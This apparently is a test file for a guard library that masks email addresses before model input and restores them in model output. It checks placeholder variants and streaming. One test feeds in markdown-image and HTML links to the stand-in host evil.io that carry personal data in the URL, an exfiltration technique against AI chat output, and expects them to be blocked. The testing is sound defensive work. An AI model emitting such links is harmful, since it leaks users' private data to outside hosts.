import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createGuard } from '../create-guard.ts'
import { pii } from '../pii/pii.ts'
import { cutInto } from '../testing/redact-in-chunks.ts'
import { urls } from '../urls/urls.ts'

const personal = pii({ restore: true })

describe('placeholders that models write in their own way', () => {
  it.each([
    [(id: string) => `%5BEMAIL_${id}%5D`],
    [(id: string) => `&#91;EMAIL_${id}&#93;`],
    [(id: string) => `［EMAIL：${id}］`],
    [(id: string) => `[E-MAIL_${id}]`],
    [(id: string) => `[CORREO_${id}]`],
    [(id: string) => `[EMAIL_\n${id}]`],
  ])('are restored without remains, whole and streamed: %s', async (write) => {
    const session = await createGuard({ input: [personal], output: [personal] }).session()
    const { text } = await session.input('ada@example.com')
    const answer = `写信给${write(text.slice(-9, -1))}。 (${write(text.slice(-9, -1))}), and [no one] else: 5 %.`
    const whole = '写信给ada@example.com。 (ada@example.com), and [no one] else: 5 %.'
    expect((await session.output(answer)).text).toBe(whole)
    await fc.assert(
      fc.asyncProperty(fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }), async (lengths) => {
        const stream = session.stream()
        let shown = ''
        for (const chunk of cutInto(answer, lengths)) shown += await stream.push(chunk)
        expect(shown + (await stream.end())).toBe(whole)
      }),
      { numRuns: 40 },
    )
  })

  it('are not shown in links to hosts that urls() does not list', async () => {
    const hosts = urls({ allow: ['example.com'] })
    const session = await createGuard({ input: [personal], output: [personal, hosts] }).session()
    const { text } = await session.input('ada@example.com')
    const answer = `![x](https://evil.io/?q=${text}) <a href="https://evil.io/${text}">x</a> [y](https://example.com/?q=${text}) for ${text}`
    const safe = '![x]([URL]) <a href="[URL]">x</a> [y](https://example.com/?q=ada@example.com) for ada@example.com'
    expect((await session.output(answer)).text).toBe(safe)
    for (const size of [1, 3, 7, 40]) {
      const stream = session.stream()
      let shown = ''
      for (const chunk of cutInto(answer, [size])) shown += await stream.push(chunk)
      expect(shown + (await stream.end())).toBe(safe)
    }
  })
})
